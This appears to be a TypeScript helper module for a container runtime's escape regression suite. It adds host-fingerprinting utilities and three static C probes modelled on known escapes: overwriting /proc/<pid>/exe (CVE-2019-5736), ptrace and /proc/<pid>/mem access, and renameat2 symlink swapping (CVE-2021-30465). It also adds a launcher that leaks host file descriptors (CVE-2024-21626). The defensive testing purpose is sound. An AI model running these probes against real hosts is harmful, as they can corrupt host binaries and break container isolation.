@@ -1,0 +1,452 @@
+/**
+ * Shared pieces of the container-escape regression suite: fingerprints of what an escape would
+ * change on the host (file checksums, directory trees, the host mount table), the small static C
+ * probes the attacks run inside the containers, and ways of starting tsrun with the fds and stdio
+ * an attack needs.
+ *
+ * No test file here imports anything that could weaken tsrun: every "hole" a positive control
+ * opens is opened through an ordinary bundle setting or CLI flag (a bind mount, a capability,
+ * --preserve-fds), never through a runtime switch.
+ */
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
+import * as crypto from 'node:crypto';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { test } from 'uvu';
+import { REPO, Sandbox, TSRUN, type Result } from '../helpers/tsrun';
+
+export { REPO, Sandbox, TSRUN };
+export type { Result };
+
+/** Registers a uvu test that gets a fresh Sandbox and always cleans it up, pass or fail. */
+export function withSandbox(t: typeof test, name: string, args: string[], body: (s: Sandbox) => Promise<void> | void) {
+  t(name, async () => {
+    const s = new Sandbox(args, 'sec');
+    try {
+      await body(s);
+    } finally {
+      s.cleanup();
+    }
+  });
+}
+
+// ---------------------------------------------------------------------------------------------
+// Host fingerprints
+
+export function sha256(file: string): string {
+  return crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');
+}
+
+/**
+ * The host files a CVE-2019-5736-style overwrite would target: the Node binary that runs the CLI,
+ * the CLI wrapper and bundles, the init binary and the N-API addon (real paths: an overwrite goes
+ * through symlinks).
+ */
+export function runtimeFiles(): string[] {
+  const files = [
+    path.join(REPO, 'node_modules/node/bin/node'),
+    path.join(REPO, 'bin/tsrun'),
+    path.join(REPO, 'addon/init/tsrun-init'),
+    ...fs.readdirSync(path.join(REPO, 'dist')).filter((f) => f.endsWith('.js')).map((f) => path.join(REPO, 'dist', f)),
+    ...fs.readdirSync(path.join(REPO, 'build/Release')).filter((f) => f.endsWith('.node')).map((f) => path.join(REPO, 'build/Release', f)),
+  ];
+  return [...new Set(files.map((f) => fs.realpathSync(f)))];
+}
+
+export interface FilePrint {
+  size: number;
+  sha: string;
+}
+
+export function fingerprintFiles(files: string[]): Map<string, FilePrint> {
+  return new Map(files.map((f) => [f, { size: fs.statSync(f).size, sha: sha256(f) }]));
+}
+
+/**
+ * Files whose checksum changed since `before`. The probes only ever append (O_APPEND, never
+ * O_TRUNC), so a breached file is repaired by truncating it back to its old size; that keeps the
+ * checkout (and the node binary every other engineer uses) working after a failing run.
+ */
+export function changedFilesRepairing(before: Map<string, FilePrint>): string[] {
+  const changed: string[] = [];
+  for (const [file, print] of before) {
+    if (sha256(file) === print.sha) continue;
+    changed.push(file);
+    try {
+      if (fs.statSync(file).size > print.size) fs.truncateSync(file, print.size);
+    } catch {}
+    if (sha256(file) !== print.sha) changed.push(`${file} (NOT repaired: restore it from the build)`);
+  }
+  return changed;
+}
+
+/**
+ * Everything about a directory tree an escape could change: entries, types, modes, owners,
+ * symlink targets, file contents and directory mtimes (a mkdir + rmdir leaves no entry but moves
+ * the mtime of the parent).
+ */
+export function treePrint(dir: string): string[] {
+  const out: string[] = [];
+  const walk = (p: string, rel: string) => {
+    const st = fs.lstatSync(p);
+    let what = `${rel} mode=${st.mode.toString(8)} uid=${st.uid} gid=${st.gid}`;
+    if (st.isSymbolicLink()) what += ` -> ${fs.readlinkSync(p)}`;
+    else if (st.isFile()) what += ` size=${st.size} sha=${sha256(p)}`;
+    else if (st.isDirectory()) what += ` mtime=${st.mtimeMs}`;
+    out.push(what);
+    if (st.isDirectory()) for (const e of fs.readdirSync(p).sort()) walk(path.join(p, e), `${rel}/${e}`);
+  };
+  walk(dir, '.');
+  return out;
+}
+
+/**
+ * The host mount table as comparable lines (root, mount point, type, source, options: mount ids
+ * change on every remount and mean nothing across snapshots).
+ */
+export function hostMounts(): string[] {
+  return fs
+    .readFileSync('/proc/self/mountinfo', 'utf8')
+    .split('\n')
+    .filter(Boolean)
+    .map((line) => {
+      const [pre, post] = line.split(' - ');
+      const f = pre.split(' ');
+      const [fstype, source, superOpts] = post.split(' ');
+      return `${f[4]} root=${f[3]} ${fstype} ${source} ${f[5]} ${superOpts}`;
+    });
+}
+
+/**
+ * Mount lines added or removed between two snapshots. Other engineers' tests run on this machine
+ * at the same time: their own sandboxes (other tsrun-test-* temp dirs) are not ours to judge, every
+ * other change counts.
+ */
+export function mountChanges(before: string[], after: string[], ours: string[]): string[] {
+  const tmp = os.tmpdir();
+  const foreign = (l: string) => {
+    const mp = l.split(' ')[0];
+    return mp.startsWith(path.join(tmp, 'tsrun-')) && !ours.some((o) => mp.startsWith(o));
+  };
+  const b = new Set(before);
+  const a = new Set(after);
+  return [...after.filter((l) => !b.has(l)).map((l) => `+ ${l}`), ...before.filter((l) => !a.has(l)).map((l) => `- ${l}`)].filter(
+    (l) => !foreign(l.slice(2)),
+  );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Static C probes (busybox has no strace, no ptrace, no renameat2)
+
+const PROBE_DIR = path.join(REPO, 'test/.fixtures/security-probes');
+
+/** Compiles `source` with cc -static once per source text; returns the binary's host path. */
+export function compileProbe(name: string, source: string): string {
+  const hash = crypto.createHash('sha256').update(source).digest('hex').slice(0, 12);
+  const bin = path.join(PROBE_DIR, `${name}-${hash}`);
+  if (fs.existsSync(bin)) return bin;
+  fs.mkdirSync(PROBE_DIR, { recursive: true });
+  const src = path.join(PROBE_DIR, `${name}-${hash}.${process.pid}.c`);
+  fs.writeFileSync(src, source);
+  try {
+    execFileSync('cc', ['-static', '-O2', '-Wall', '-o', `${bin}.${process.pid}`, src], { stdio: ['ignore', 'pipe', 'pipe'] });
+    fs.renameSync(`${bin}.${process.pid}`, bin);
+  } finally {
+    fs.rmSync(src, { force: true });
+  }
+  return bin;
+}
+
+/** Copies a compiled probe into the sandbox's rootfs as /<name>; returns its container path. */
+export function installProbe(s: Sandbox, name: string, source: string): string {
+  const dest = path.join(s.bundle, 'rootfs', name);
+  fs.copyFileSync(compileProbe(name, source), dest);
+  fs.chmodSync(dest, 0o755);
+  return `/${name}`;
+}
+
+/**
+ * CVE-2019-5736 probe. For `seconds`, over every pid it can see: tries to open /proc/<pid>/exe
+ * for writing directly, and keeps an O_PATH fd on it to re-open through /proc/self/fd/<n> once the
+ * process has exited (ETXTBSY no longer applies then) — the real exploit's trick. Any successful
+ * write-open appends a marker line (O_APPEND only: the host side can cut it off again) and is
+ * reported as "BREACH <how> <pid> <target>". Extra arguments are paths to target the same way
+ * (unused by the attack; there for debugging).
+ */
+export const EXE_PROBE = String.raw`
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MAXH 2048
+struct held { int fd; int pid; char target[256]; };
+static struct held h[MAXH];
+static int nh;
+static const char mark[] = "\n// tsrun-security-probe\n";
+
+/* Keyed by pid and exe: an exec'd process is first seen as tsrun-init, then as its program. */
+static int seen(int pid, const char *target) {
+  for (int i = 0; i < nh; i++) if (h[i].pid == pid && !strcmp(h[i].target, target)) return 1;
+  return 0;
+}
+
+static void try_write(int fd, const char *how, int pid, const char *target) {
+  if (fd < 0) return;
+  ssize_t w = write(fd, mark, sizeof mark - 1);
+  printf("%s %s %d %s (write %zd errno %d)\n", w > 0 ? "BREACH" : "OPENED-W", how, pid, target, w, w < 0 ? errno : 0);
+  fflush(stdout);
+  close(fd);
+}
+
+int main(int argc, char **argv) {
+  double secs = argc > 1 ? atof(argv[1]) : 10;
+  struct timespec t0, t;
+  clock_gettime(CLOCK_MONOTONIC, &t0);
+  long scans = 0, opened = 0;
+  int self = getpid();
+  printf("probe pid %d\n", self); fflush(stdout);
+  for (;;) {
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+      int pid = atoi(e->d_name);
+      if (pid <= 0 || pid == self) continue;
+      char p[64], target[256] = "";
+      snprintf(p, sizeof p, "/proc/%d/exe", pid);
+      ssize_t n = readlink(p, target, sizeof target - 1);
+      if (n > 0) target[n] = 0;
+      try_write(open(p, O_WRONLY | O_APPEND | O_CLOEXEC), "direct", pid, target);
+      if (!seen(pid, target) && nh < MAXH) {
+        int fd = open(p, O_PATH | O_CLOEXEC);
+        if (fd >= 0) { h[nh].fd = fd; h[nh].pid = pid; strcpy(h[nh].target, target); nh++; opened++; }
+      }
+    }
+    if (d) closedir(d);
+    for (int i = 0; i < nh; i++) {
+      if (h[i].fd < 0) continue;
+      char p[64];
+      snprintf(p, sizeof p, "/proc/self/fd/%d", h[i].fd);
+      int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
+      if (fd >= 0) { try_write(fd, "reopen", h[i].pid, h[i].target); close(h[i].fd); h[i].fd = -1; }
+    }
+    for (int i = 2; i < argc; i++) try_write(open(argv[i], O_WRONLY | O_APPEND | O_CLOEXEC), "path", 0, argv[i]);
+    scans++;
+    usleep(200);
+  }
+  printf("done scans=%ld exe-handles=%ld\n", scans, opened);
+  return 0;
+}
+`;
+
+/**
+ * ptrace probe: for `seconds`, against every other pid it can see, tries PTRACE_ATTACH (then
+ * detaches), process_vm_readv of the first mapped page, and open(/proc/<pid>/mem). Each success is
+ * printed as "<WHAT> <pid> exe=<exe> comm=<comm>"; the exe is read while the target is stopped
+ * (attach) so a tsrun-init image (memfd or host file) can be told from a process that has already
+ * exec'd its program. "denied" lines count the refusals (so the test knows targets were seen).
+ */
+export const PTRACE_PROBE = String.raw`
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static void exe_of(int pid, char *buf, size_t len) {
+  char p[64]; snprintf(p, sizeof p, "/proc/%d/exe", pid);
+  ssize_t n = readlink(p, buf, len - 1);
+  if (n < 0) snprintf(buf, len, "?(errno %d)", errno); else buf[n] = 0;
+}
+static void comm_of(int pid, char *buf, size_t len) {
+  char p[64]; snprintf(p, sizeof p, "/proc/%d/comm", pid);
+  buf[0] = 0; FILE *f = fopen(p, "r");
+  if (f) { if (fgets(buf, len, f)) buf[strcspn(buf, "\n")] = 0; fclose(f); }
+}
+static unsigned long first_map(int pid) {
+  char p[64]; snprintf(p, sizeof p, "/proc/%d/maps", pid);
+  FILE *f = fopen(p, "r"); unsigned long a = 0x400000;
+  if (f) { if (fscanf(f, "%lx", &a) != 1) a = 0x400000; fclose(f); }
+  return a;
+}
+
+int main(int argc, char **argv) {
+  double secs = argc > 1 ? atof(argv[1]) : 5;
+  int self = getpid();
+  long denied = 0, tries = 0;
+  struct timespec t0, t;
+  clock_gettime(CLOCK_MONOTONIC, &t0);
+  printf("probe pid %d\n", self); fflush(stdout);
+  do {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+      int pid = atoi(e->d_name);
+      if (pid <= 0 || pid == self || pid == getppid()) continue;
+      char exe[256], comm[64];
+      tries++;
+      if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
+        int st; waitpid(pid, &st, __WALL);
+        exe_of(pid, exe, sizeof exe); comm_of(pid, comm, sizeof comm);
+        printf("ATTACH %d exe=%s comm=%s\n", pid, exe, comm); fflush(stdout);
+        ptrace(PTRACE_DETACH, pid, 0, 0);
+      } else if (errno == EPERM || errno == EACCES) denied++;
+      char buf[16];
+      struct iovec l = { buf, sizeof buf }, r = { (void *)first_map(pid), sizeof buf };
+      if (process_vm_readv(pid, &l, 1, &r, 1, 0) > 0) {
+        exe_of(pid, exe, sizeof exe); comm_of(pid, comm, sizeof comm);
+        printf("VMREAD %d exe=%s comm=%s\n", pid, exe, comm); fflush(stdout);
+      } else if (errno == EPERM || errno == EACCES) denied++;
+      char p[64]; snprintf(p, sizeof p, "/proc/%d/mem", pid);
+      int fd = open(p, O_RDONLY | O_CLOEXEC);
+      if (fd >= 0) {
+        exe_of(pid, exe, sizeof exe); comm_of(pid, comm, sizeof comm);
+        printf("MEM %d exe=%s comm=%s\n", pid, exe, comm); fflush(stdout);
+        close(fd);
+      } else if (errno == EPERM || errno == EACCES) denied++;
+    }
+    if (d) closedir(d);
+    usleep(100);
+    clock_gettime(CLOCK_MONOTONIC, &t);
+  } while ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
+  printf("done tries=%ld denied=%ld\n", tries, denied);
+  return 0;
+}
+`;
+
+/**
+ * Symlink-exchange probe (CVE-2021-30465 shape): for `seconds`, atomically swaps the names
+ * `a` and `b` (renameat2 RENAME_EXCHANGE) in a tight loop, so that a path through `a` is a real
+ * directory one instant and a symlink the next.
+ */
+export const SWAP_PROBE = String.raw`
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <stdio.h>
+#include <time.h>
+#include <unistd.h>
+#include <sys/syscall.h>
+#include <linux/fs.h>
+
+int main(int argc, char **argv) {
+  if (argc < 4) return 2;
+  double secs = atof(argv[1]);
+  struct timespec t0, t;
+  clock_gettime(CLOCK_MONOTONIC, &t0);
+  long swaps = 0, fails = 0;
+  printf("swapping\n"); fflush(stdout);
+  for (;;) {
+    for (int i = 0; i < 1000; i++) {
+      if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0) swaps++; else fails++;
+    }
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
+  }
+  printf("done swaps=%ld fails=%ld\n", swaps, fails);
+  return 0;
+}
+`;
+
+// ---------------------------------------------------------------------------------------------
+// Starting tsrun the way the attacks need
+
+/**
+ * Runs tsrun through a shell that first opens `fdSetup` (e.g. `7</ 8</sys/fs/cgroup`) without
+ * close-on-exec, as a careless caller would: tsrun inherits those fds (CVE-2024-21626 shape).
+ */
+export function tsrunWithFds(s: Sandbox, fdSetup: string, args: string[], timeout = 30_000): Result {
+  const r = spawnSync('sh', ['-c', `exec ${fdSetup}; exec "$@"`, 'sh', TSRUN, '--root', s.root, ...args], {
+    encoding: 'utf8',
+    cwd: s.dir,
+    timeout,
+    stdio: ['ignore', 'pipe', 'pipe'],
+  });
+  if (r.error) throw r.error;
+  return { status: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr };
+}
+
+/**
+ * `create` (or `run -d`) with the container's stdio on files: a created init keeps the stdio it
+ * was given until it exits, so pipes would keep spawnSync waiting. Returns the result with the
+ * command's own output; the container's output goes to `<dir>/<id>.out`.
+ */
+export function tsrunDetached(s: Sandbox, args: string[], fdSetup = '', id = s.id): Result & { out: string } {
+  const out = path.join(s.dir, `${id}.out`);
+  const r = spawnSync('sh', ['-c', `exec ${fdSetup} </dev/null >>"$0" 2>&1; exec "$@"`, out, TSRUN, '--root', s.root, ...args], {
+    encoding: 'utf8',
+    cwd: s.dir,
+    timeout: 30_000,
+  });
+  if (r.error) throw r.error;
+  return { status: r.status, signal: r.signal, stdout: '', stderr: fs.existsSync(out) ? fs.readFileSync(out, 'utf8') : '', out };
+}
+
+/** Writes a runtime-spec Process file (the container's process with `args` and `change`); returns its path. */
+export function processFile(s: Sandbox, args: string[], change: (p: any) => void = () => {}): string {
+  const p = structuredClone(s.config.process);
+  p.args = args;
+  change(p);
+  const file = path.join(s.dir, `process-${crypto.randomUUID()}.json`);
+  fs.writeFileSync(file, JSON.stringify(p));
+  return file;
+}
+
+/** Async tsrun invocation with stdio on pipes (for exec loops running next to other work). */
+export function tsrunAsync(s: Sandbox, args: string[], timeout = 30_000): Promise<Result> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(TSRUN, ['--root', s.root, ...args], { cwd: s.dir, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d) => (stdout += d));
+    child.stderr.on('data', (d) => (stderr += d));
+    const timer = setTimeout(() => child.kill('SIGKILL'), timeout);
+    child.on('error', reject);
+    child.on('close', (status, signal) => {
+      clearTimeout(timer);
+      resolve({ status, signal, stdout, stderr });
+    });
+  });
+}
+
+/** Docker's default capability set: what an ordinary container's root has (no SYS_PTRACE, no SYS_ADMIN). */
+export const DOCKER_CAPS = [
+  'CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_FSETID', 'CAP_FOWNER', 'CAP_MKNOD', 'CAP_NET_RAW', 'CAP_SETGID', 'CAP_SETUID',
+  'CAP_SETFCAP', 'CAP_SETPCAP', 'CAP_NET_BIND_SERVICE', 'CAP_SYS_CHROOT', 'CAP_KILL', 'CAP_AUDIT_WRITE',
+];
+
+export function setCaps(p: any, caps: string[], inheritable: string[] = []): void {
+  p.capabilities = { bounding: caps, effective: caps, permitted: caps, ambient: [], inheritable };
+}
+
+/** Polls the sandbox's container state until `status` (created/running/stopped). */
+export async function waitStatus(s: Sandbox, status: string, id = s.id, timeoutMs = 10_000): Promise<void> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const r = s.tsrun(['state', id]);
+    if (r.status === 0 && JSON.parse(r.stdout).status === status) return;
+    if (Date.now() > deadline) throw new Error(`container ${id} never reached ${status}: ${r.stdout}${r.stderr}`);
+    await new Promise((res) => setTimeout(res, 50));
+  }
+}
+
+export function readOut(file: string): string {
+  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
+}
